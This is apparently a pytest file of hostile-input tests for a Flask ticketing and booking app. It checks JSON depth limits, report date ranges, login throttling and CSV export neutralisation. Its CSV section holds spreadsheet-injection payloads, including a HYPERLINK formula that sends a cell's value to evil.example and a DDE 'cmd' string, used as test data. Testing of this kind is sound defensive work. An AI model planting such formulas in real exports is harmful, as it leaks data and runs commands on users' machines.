"""Input as an attacker would send it, against the real app: JSON nested a thousand deep, report dates in
year 1 and year 9999, spreadsheet formulas in names and dossier codes, ``OPTIONS`` on every route. Each is
a 4xx in API.md's error shape (or a neutralised cell), never a 5xx."""

from __future__ import annotations

import contextlib
import copy
import csv
import io
import os
import socket
import subprocess
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from flask import Flask

from server.app import create_app
from server.domain.access import Role
from server.services.accounts import auth as auth_service
from tests.booking import MONDAY_7AM, at, book, booking_config
from tests.commands import luot, refused
from tests.conftest import PASSWORD, Clock, World
from tests.integration.test_bad_input import assert_error

DEEP_ARRAY = "[" * 5000 + "]" * 5000
DEEP_OBJECT = '{"a":' * 5000 + "1" + "}" * 5000
DEEP_INSIDE = '{"service_id": ' + "[" * 1000 + "]" * 1000 + "}"


@pytest.fixture
def booking_world(make_app: Callable[..., Flask], database_url: str) -> World:
    app = make_app(database_url, booking_config())
    app.extensions["luot"].clock = lambda: MONDAY_7AM
    return World(app)


def _json_post(world: World, path: str, body: str, headers: dict[str, str] | None = None) -> Any:
    return world.client.post(path, data=body, headers={**(headers or {}), "Content-Type": "application/json"})


@pytest.mark.parametrize("body", [DEEP_ARRAY, DEEP_OBJECT, DEEP_INSIDE])
def test_json_nested_too_deep_is_400_on_the_issue_booking_enrolment_and_login_routes(
    booking_world: World, body: str
) -> None:
    world = booking_world
    kiosk = world.device("kiosk")
    clerk = world.staff("clerk")
    site = world.site("CB")["id"]
    for path, headers in [
        (f"/api/v1/sites/{site}/tickets", kiosk),
        ("/api/v1/appointments", {}),
        ("/api/v1/devices/enrol", {}),
        ("/api/v1/auth/login", {}),
        (f"/api/v1/tickets/{world.issue(kiosk)['id']}/complete", clerk),
    ]:
        assert_error(_json_post(world, path, body, headers), 400, "malformed_json")


def test_json_nested_within_the_limit_or_brackets_inside_strings_are_read_as_usual(
    booking_world: World,
) -> None:
    world = booking_world
    kiosk = world.device("kiosk")
    site = world.site("CB")["id"]
    service = world.service("CB", "HT")["id"]
    nested = '{"service_id": ' + "[" * 60 + "1" + "]" * 60 + "}"
    assert_error(_json_post(world, f"/api/v1/sites/{site}/tickets", nested, kiosk), 422)
    brackets = '{"service_id": %d, "language": "%s"}' % (service, "[" * 2000)  # noqa: UP031
    assert_error(_json_post(world, f"/api/v1/sites/{site}/tickets", brackets, kiosk), 422)
    booked = {
        "site_id": site,
        "service_id": service,
        "start": at(9).isoformat(),
        "name": "[[[[ {{{{ Nguyễn Văn An",
        "phone": "0912345678",
    }
    response = world.client.post("/api/v1/appointments", json=booked)
    assert response.status_code == 201, response.json


EXTREME_PERIODS = [
    "from=0001-01-01",
    "from=9999-12-31",
    "to=0001-01-01",
    "to=9999-12-31",
    "from=0001-01-01&to=0001-01-02",
    "from=9999-12-30&to=9999-12-31",
    "from=1999-12-31&to=2000-01-01",
    "from=2099-12-31&to=2100-01-01",
    "from=2026-03-01&to=2026-02-01",
]


@pytest.mark.parametrize("query", EXTREME_PERIODS)
def test_reports_for_dates_outside_a_sane_range_are_422_bad_period(world: World, query: str) -> None:
    admin = world.staff("admin", sites=())
    site = world.site("CB")["id"]
    for path in (
        f"/api/v1/sites/{site}/stats",
        f"/api/v1/sites/{site}/stats.csv",
        f"/api/v1/sites/{site}/tickets.csv",
        "/api/v1/communes/11914/stats",
        "/api/v1/communes/11914/stats.csv",
        "/api/v1/communes/11914/tickets.csv",
    ):
        assert_error(world.client.get(f"{path}?{query}", headers=admin), 422, "bad_period")
    audit = world.client.get(f"/api/v1/sites/{site}/audit?{query}", headers=admin)
    assert_error(audit, 422)  # the audit's own code for a reversed period, bad_period for extreme dates


def test_the_edges_of_the_sane_range_are_reports_like_any_other(world: World) -> None:
    admin = world.staff("admin", sites=())
    site = world.site("CB")["id"]
    for query in ("from=2000-01-01&to=2000-01-31", "from=2099-12-01&to=2099-12-31"):
        response = world.client.get(f"/api/v1/sites/{site}/stats?{query}", headers=admin)
        assert response.status_code == 200, response.json
        assert response.json["issued"] == 0


# -- CSV formula injection -------------------------------------------------------------------------

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]


def _rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def _cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


def assert_neutralised(cells: list[str], payload: str) -> None:
    assert "'" + payload in cells, (payload, cells)
    assert payload not in cells


@pytest.fixture
def hostile_world(make_app: Callable[..., Flask], database_url: str) -> World:
    """A site whose service, counter and clerk names are spreadsheet formulas."""
    config = copy.deepcopy(booking_config())
    site = config["communes"][0]["sites"][0]
    site["always_open"] = True
    site["services"][0]["name"] = "=1+2"
    site["counters"][0]["name"] = "@SUM(A1:A9)"
    return World(make_app(database_url, config))


def test_formulas_in_dossier_codes_and_names_are_neutralised_in_both_exports(hostile_world: World) -> None:
    world = hostile_world
    kiosk = world.device("kiosk")
    auth_service.add_user(
        world.luot.uow(),
        world.luot.hasher,
        username="=cmd|calc",
        password=PASSWORD,
        role=Role.CLERK,
        site_codes=["CB"],
        at=world.luot.now(),
    )
    login = world.client.post("/api/v1/auth/login", json={"username": "=cmd|calc", "password": PASSWORD})
    clerk = {"Authorization": f"Bearer {login.json['token']}"}
    counter = world.open_counter(clerk)
    for payload in PAYLOADS:
        world.issue(kiosk)
        ticket = world.client.post(f"/api/v1/counters/{counter}/call-next", headers=clerk).json
        world.client.post(f"/api/v1/tickets/{ticket['id']}/start", headers=clerk)
        done = world.client.post(
            f"/api/v1/tickets/{ticket['id']}/complete", json={"dossier_code": payload}, headers=clerk
        )
        assert done.status_code == 200, done.json
    manager = world.staff("manager")
    site = world.site("CB")["id"]

    log = _rows(world.client.get(f"/api/v1/sites/{site}/tickets.csv", headers=manager))
    cells = _cells(log)
    for payload in [*PAYLOADS, "=cmd|calc"]:
        assert_neutralised(cells, payload)
    assert _cells(_rows(world.client.get("/api/v1/communes/11914/tickets.csv", headers=manager))) == cells

    stats = _cells(_rows(world.client.get(f"/api/v1/sites/{site}/stats.csv", headers=manager)))
    for payload in ("=1+2", "@SUM(A1:A9)", "=cmd|calc"):
        assert_neutralised(stats, payload)
    commune = _cells(_rows(world.client.get("/api/v1/communes/11914/stats.csv", headers=manager)))
    assert_neutralised(commune, "=1+2")
    assert not [cell for cell in stats + cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_numbers_in_exports_stay_numbers(world: World) -> None:
    kiosk = world.device("kiosk")
    world.issue(kiosk)
    manager = world.staff("manager")
    site = world.site("CB")["id"]
    rows = _rows(world.client.get(f"/api/v1/sites/{site}/stats.csv", headers=manager))
    assert ["total", "", "", "issued", "1"] in rows


# -- OPTIONS ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/sites",
        "/api/v1/health",
        "/api/v1/sites/1/tickets",
        "/api/v1/auth/login",
        "/api/v1/sites/1/stats.csv",
        "/api/v1/appointments",
    ],
)
def test_options_under_the_api_answers_in_the_json_error_shape(world: World, path: str) -> None:
    response = world.client.options(path)
    assert response.content_type == "application/json"
    assert_error(response, 405, "method_not_allowed")
    assert "OPTIONS" not in response.headers["Allow"]
    assert response.headers["Allow"]


def test_options_of_an_unknown_api_route_is_the_json_404(world: World) -> None:
    assert_error(world.client.options("/api/v1/no-such-route"), 404, "not_found")
    for method in ("get", "options", "post"):
        assert_error(getattr(world.client, method)("/api"), 404, "not_found")


# -- health as a writer sees it --------------------------------------------------------------------


def _database_file(app: Flask) -> Path:
    return Path(app.extensions["luot"].database.url.database)


@contextlib.contextmanager
def read_only(path: Path) -> Iterator[None]:
    """The file cannot be written, even by root (immutable where chmod does not stop root)."""
    path.chmod(0o444)
    immutable = os.geteuid() == 0 and subprocess.run(["chattr", "+i", str(path)], check=False).returncode == 0
    try:
        try:
            os.close(os.open(path, os.O_WRONLY))
        except OSError:
            pass
        else:
            pytest.skip("this machine cannot make a file read-only for this user")
        yield
    finally:
        if immutable:
            subprocess.run(["chattr", "-i", str(path)], check=True)
        path.chmod(0o644)


def assert_unhealthy(response: Any) -> None:
    assert response.status_code == 503, response.get_data(as_text=True)
    assert response.content_type == "application/json"
    assert response.json["status"] == "error"
    assert response.json["db"] == "error"
    assert response.json["version"]


def test_health_is_ok_when_the_database_can_be_written(
    make_app: Callable[..., Flask], database_url: str
) -> None:
    app = make_app(database_url)
    response = app.test_client().get("/api/v1/health")
    assert response.status_code == 200
    assert (response.json["status"], response.json["db"]) == ("ok", "ok")


def test_health_is_503_while_the_sqlite_file_is_read_only(world: World) -> None:
    world.issue(world.device("kiosk"))
    with read_only(_database_file(world.app)):
        assert_unhealthy(world.client.get("/api/v1/health"))
    assert world.client.get("/api/v1/health").status_code == 200


def test_health_is_503_once_the_sqlite_file_is_deleted(world: World) -> None:
    world.issue(world.device("kiosk"))
    path = _database_file(world.app)
    for leftover in (path, path.with_name(path.name + "-wal"), path.with_name(path.name + "-shm")):
        leftover.unlink(missing_ok=True)
    assert_unhealthy(world.client.get("/api/v1/health"))
    assert not path.exists()  # the probe never creates an empty database in its place


def test_health_is_503_when_postgresql_cannot_be_reached(tmp_path: Path) -> None:
    app = create_app(
        {
            "LUOT_INSTANCE_PATH": str(tmp_path / "instance"),
            "LUOT_DATABASE_URL": f"postgresql://postgres@127.0.0.1:{closed_port()}/luot",
            "LUOT_RATE_LIMITS": False,
            "LUOT_ENV": "test",
            "SECRET_KEY": "test-secret",
            "TESTING": True,
        }
    )
    try:
        assert_unhealthy(app.test_client().get("/api/v1/health"))
    finally:
        app.extensions["luot"].close()


def closed_port() -> int:
    """A local port where nothing listens (bound, then released, never listened on)."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@pytest.mark.parametrize("command", [("serve", "--port", "0"), ("scheduler", "--once"), ("device", "list")])
def test_a_wrong_postgresql_port_at_start_is_one_error_line(tmp_path: Path, command: tuple[str, ...]) -> None:
    port = closed_port()
    env = {
        "LUOT_INSTANCE_PATH": str(tmp_path / "instance"),
        "LUOT_DATABASE_URL": f"postgresql://postgres@127.0.0.1:{port}/postgres",
        "LUOT_ENV": None,
    }
    line = refused(luot(None, *command, env=env), f"127.0.0.1:{port}", "Connection refused")
    assert line.startswith("error: cannot reach the database")


# -- the same person however their number is typed -------------------------------------------------

FULL_WIDTH_ID = "０７９１９０００１２３４"


def test_a_citizen_id_in_full_width_digits_is_the_same_person_at_the_kiosk_and_the_desk(
    world: World,
) -> None:
    kiosk = world.device("kiosk")
    clerk = world.staff("clerk")
    world.issue(kiosk, citizen_id="079190001234")
    world.issue(clerk, citizen_id="079 190 001 234")
    site = world.site("CB")["id"]
    for headers, typed in ((kiosk, FULL_WIDTH_ID), (clerk, "０７９\u3000１９０\u3000００１\u3000２３４")):
        response = world.client.post(
            f"/api/v1/sites/{site}/tickets",
            json={"service_id": world.service("CB", "CT")["id"], "citizen_id": typed},
            headers=headers,
        )
        assert_error(response, 429, "person_limit")


def test_a_phone_number_in_full_width_digits_or_with_plus_84_is_the_same_person(world: World) -> None:
    kiosk = world.device("kiosk")
    world.issue(kiosk, phone="０９１２３４５６７８")
    world.issue(kiosk, phone="(+84) 912-345-678")
    site = world.site("CB")["id"]
    for typed in ("0912345678", "＋８４９１２３４５６７８", "0084 912 345 678"):
        response = world.client.post(
            f"/api/v1/sites/{site}/tickets",
            json={"service_id": world.service("CB", "HT")["id"], "phone": typed},
            headers=kiosk,
        )
        assert_error(response, 429, "person_limit")


def test_bookings_count_a_full_width_citizen_id_and_phone_as_the_same_person(booking_world: World) -> None:
    world = booking_world
    book(world, at(9), phone="0933000001", citizen_id="079190001234")
    book(world, at(9, 10), phone="0933000002", citizen_id=FULL_WIDTH_ID)
    refused_booking = book(world, at(9, 20), phone="0933000003", citizen_id=FULL_WIDTH_ID, expect=429)
    assert refused_booking["error"]["code"] == "person_limit"
    book(world, at(10), phone="０９１２０００１１１")
    book(world, at(10, 10), phone="+84 912 000 111")
    refused_booking = book(world, at(10, 20), phone="0912000111", expect=429)
    assert refused_booking["error"]["code"] == "person_limit"


def test_a_checked_in_booking_carries_the_same_person_to_the_queue(booking_world: World) -> None:
    world = booking_world
    appointment = book(world, at(8), phone="0933000009", citizen_id=FULL_WIDTH_ID)
    world.luot.clock = lambda: at(7, 45)  # the site is open and the check-in window has begun
    kiosk = world.device("kiosk")
    checked_in = world.client.post(f"/api/v1/appointments/{appointment['code']}/check-in", headers=kiosk)
    assert checked_in.status_code == 201, checked_in.json
    world.issue(kiosk, service="CT", citizen_id="079190001234")
    site = world.site("CB")["id"]
    response = world.client.post(
        f"/api/v1/sites/{site}/tickets",
        json={"service_id": world.service("CB", "CT")["id"], "citizen_id": FULL_WIDTH_ID},
        headers=kiosk,
    )
    assert_error(response, 429, "person_limit")


# -- sign-in: slow the guesser, never lock the clerk -----------------------------------------------

ATTACKER = {"REMOTE_ADDR": "203.0.113.66"}
CLERK_TABLET = {"REMOTE_ADDR": "192.168.1.21"}


def _login(world: World, username: str, password: str, where: dict[str, str]) -> Any:
    return world.client.post(
        "/api/v1/auth/login", json={"username": username, "password": password}, environ_base=where
    )


def _answer(response: Any) -> tuple[int, str, str, str | None]:
    error = response.json["error"]
    return response.status_code, error["code"], error["message"], response.headers.get("Retry-After")


def test_failed_sign_ins_answer_the_same_for_known_and_unknown_usernames(
    database_url: str, make_app: Any
) -> None:
    world = World(make_app(database_url))
    world.luot.clock = Clock(datetime.now(UTC))  # frozen: the waits earned last however slow the answers
    world.staff("clerk", username="lan")
    known = [_answer(_login(world, "lan", "guess-number-%d" % i, ATTACKER)) for i in range(9)]  # noqa: UP031
    unknown = [_answer(_login(world, "ghost", "guess-number-%d" % i, ATTACKER)) for i in range(9)]  # noqa: UP031
    assert known == unknown
    assert [status for status, *_ in known] == [401] * 6 + [429] * 3
    assert {code for _, code, *_ in known} == {"bad_credentials", "login_throttled"}
    assert all(retry is not None and int(retry) >= 1 for status, _, _, retry in known if status == 429)


def test_a_hammered_clerk_still_signs_in_from_their_own_tablet(world: World, clock: Clock) -> None:
    clock.set(clock())  # frozen: the waits earned last however slow the answers
    world.staff("clerk", username="lan")
    answers = [_login(world, "lan", "not-the-password", ATTACKER).status_code for _ in range(30)]
    assert answers[:5] == [401] * 5 and 429 in answers and 500 not in answers
    tablet = _login(world, "lan", PASSWORD, CLERK_TABLET)
    assert tablet.status_code == 200, tablet.json
    token = {"Authorization": f"Bearer {tablet.json['token']}"}
    assert world.client.get("/api/v1/me", headers=token).json["username"] == "lan"
    # the guesser's address still waits for that name, even with the right password, but not for others
    throttled = _login(world, "lan", PASSWORD, ATTACKER)
    assert_error(throttled, 429, "login_throttled")
    world.staff("clerk", username="mai")
    assert _login(world, "mai", PASSWORD, ATTACKER).status_code == 200
    # once the wait it was told is over, the right password signs in from there too
    clock.advance(seconds=int(throttled.headers["Retry-After"]) - 0.5)
    assert_error(_login(world, "lan", PASSWORD, ATTACKER), 429, "login_throttled")
    clock.advance(seconds=0.5)
    assert _login(world, "lan", PASSWORD, ATTACKER).status_code == 200


def test_a_successful_sign_in_forgets_the_earlier_failures(world: World) -> None:
    world.staff("clerk", username="lan")
    for _ in range(4):
        assert _login(world, "lan", "typo-password", CLERK_TABLET).status_code == 401
    assert _login(world, "lan", PASSWORD, CLERK_TABLET).status_code == 200
    answers = [_login(world, "lan", "typo-password", CLERK_TABLET).status_code for _ in range(5)]
    assert answers == [401] * 5


def test_a_body_over_the_size_limit_is_413_in_the_json_shape(world: World) -> None:
    body = '{"username": "' + "a" * (1024 * 1024 + 10) + '"}'
    response = _json_post(world, "/api/v1/auth/login", body)
    assert response.content_type == "application/json"
    assert_error(response, 413, "request_too_large")


def test_health_is_503_when_postgresql_only_allows_reading(
    make_app: Callable[..., Flask], postgres_url: str
) -> None:
    app = make_app(postgres_url)
    database = app.extensions["luot"].database
    name = database.url.database
    with database.engine.connect().execution_options(isolation_level="AUTOCOMMIT") as connection:
        connection.execute(sa.text(f'ALTER DATABASE "{name}" SET default_transaction_read_only = on'))
    database.engine.dispose()  # the next connections are opened read-only, as on a standby
    assert_unhealthy(app.test_client().get("/api/v1/health"))
